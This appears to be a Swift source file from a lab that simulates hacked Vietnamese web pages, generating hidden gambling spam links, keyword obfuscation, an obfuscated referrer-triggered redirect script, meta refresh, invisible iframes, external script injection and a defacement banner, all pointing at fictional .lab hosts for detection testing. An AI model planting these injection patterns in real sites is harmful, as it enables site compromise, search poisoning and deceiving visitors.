extension Attack {
    /// Changes the front page as this attack does.
    func change(_ page: inout SitePage) {
        switch self {
        case .hiddenByDisplay, .hiddenOffScreen, .hiddenByFontSize, .hiddenByMarquee, .hiddenByClass,
            .hiddenByColour:
            hide(&page)
        case .visibleSpam, .cloakedForSearchEngines, .cloakedFromSearch, .cloakedForMobile:
            page.bottom = "<div class=\"\(page.prefix)-wide\"><p>\(Planted.links(page))</p></div>"
        case .commentLinks: page.bottom = "<!-- bắt đầu \(Planted.links(page)) hết -->"
        case .obfuscatedWords:
            page.bottom = "<div class=\"\(page.prefix)-wide\"><p>\(Planted.obfuscated)</p></div>"
        case .externalScript, .refererScript, .refresh, .canonical, .hiddenFrame: inject(&page)
        case .titleSpam:
            page.title = "Nhà cái uy tín, tài xỉu online | \(page.site.name)"
            page.description = "Link vào nhà cái uy tín, nổ hũ đổi thưởng, soi kèo hôm nay."
        case .licenceRemoved: page.licence = ""
        case .defacement:
            page.title = "Hacked by Nhóm Giả Lập"
            page.takenOver = Planted.defacement
        case .redirect, .cloakedRedirect, .parasitePages, .serverError, .scriptTampered, .imageReplaced,
            .slow:
            break
        }
    }

    /// A block of links that people cannot see, hidden in one way.
    private func hide(_ page: inout SitePage) {
        let links = Planted.links(page)
        switch self {
        case .hiddenOffScreen: page.bottom = "<div style=\"position:absolute;left:-9999px\">\(links)</div>"
        case .hiddenByFontSize: page.bottom = "<p style=\"font-size:0\">\(links)</p>"
        case .hiddenByMarquee:
            page.bottom = "<marquee width=\"1\" height=\"1\" scrollamount=\"9000\">\(links)</marquee>"
        case .hiddenByClass:
            page.head = "<style>.xq1{text-indent:-9999px;height:0;overflow:hidden}</style>"
            page.bottom = "<div class=\"xq1\">\(links)</div>"
        case .hiddenByColour:
            page.head = "<style>.wq2{background:#fff} .wq2 a{color:#fefefe}</style>"
            page.bottom = "<div class=\"wq2\">\(links)</div>"
        default: page.bottom = "<div style=\"display:none\">\(links)</div>"
        }
    }

    /// Something that the browser or a search engine follows by itself.
    private func inject(_ page: inout SitePage) {
        let address = page.request.address
        let away = address.url(Planted.hosts[0])
        switch self {
        case .externalScript:
            page.head = "<script src=\"\(address.url(Planted.hosts[1], "/s.js"))\"></script>"
        case .refererScript:
            page.head = """
                <script>var _0x3f=['\\x67\\x6f','ref'+'errer'];if(/google|bing|coccoc/.test(document.referrer)){
                window.location.href='\(away)';}</script>
                """
        case .refresh: page.head = "<meta http-equiv=\"refresh\" content=\"3; URL='\(away)'\">"
        case .canonical: page.canonical = away
        default:
            page.bottom =
                "<iframe src=\"\(away)\" width=\"0\" height=\"0\" style=\"border:0\" title=\"\"></iframe>"
        }
    }
}

/// What attackers plant: hosts and words that belong to nobody.
package enum Planted {
    /// Hosts to which attacks lead; the lab answers for them too, with a labelled page.
    package static let hosts = ["tro-choi-mot.lab", "thong-ke-la.lab", "tro-choi-hai.lab", "tro-choi-ba.lab"]

    /// Pages that only the sitemap knows.
    static let parasites = [
        "/upload/2026/nha-cai-uy-tin-so-mot.html", "/upload/2026/tai-xiu-online-doi-thuong.html",
        "/upload/2026/no-hu-doi-thuong-moi-nhat.html",
    ]

    static let obfuscated =
        "c.á c.ư.ợ.c b-ó-n-g đ-á, nh\u{200B}à c\u{200D}ái u\u{2060}y t\u{FEFF}ín, t_à_i x_ỉ_u, n*ổ h*ũ"

    static func links(_ page: SitePage) -> String {
        let words = ["nhà cái uy tín", "soi kèo bóng đá", "tài xỉu online", "nổ hũ đổi thưởng"]
        return zip(hosts, words).map { host, words in
            "<a href=\"\(page.request.address.url(host))\">\(words)</a>"
        }.joined(separator: " ")
    }

    static let defacement = """
        <style>body{background:#000}main{max-width:46rem;margin:12vh auto;color:#39d353;font:20px/1.5 monospace;\
        text-align:center;padding:1rem}</style><main><h1>HACKED BY NHÓM GIẢ LẬP</h1>
        <p>Your security is an illusion. Greetz to everybody in the lab.</p><p>We were here.</p></main>
        """

    /// What the hosts of the attackers show.
    package static func page(_ host: String) -> LabAnswer {
        LabAnswer(
            body: """
                <!DOCTYPE html><html lang="vi"><head><meta charset="utf-8"><title>\(host) · Phòng thử nghiệm</title>
                <meta name="viewport" content="width=device-width,initial-scale=1"></head>
                <body style="font-family:sans-serif;margin:0"><p style="background:#fff3cd;padding:1rem;margin:0">\(SitePage.label)</p>
                <main style="padding:1rem"><h1>\(host)</h1><p>Đây là nơi mà một cuộc tấn công giả lập dẫn người xem tới.
                Ở đây không có trò chơi nào.</p></main></body></html>
                """
        )
    }
}
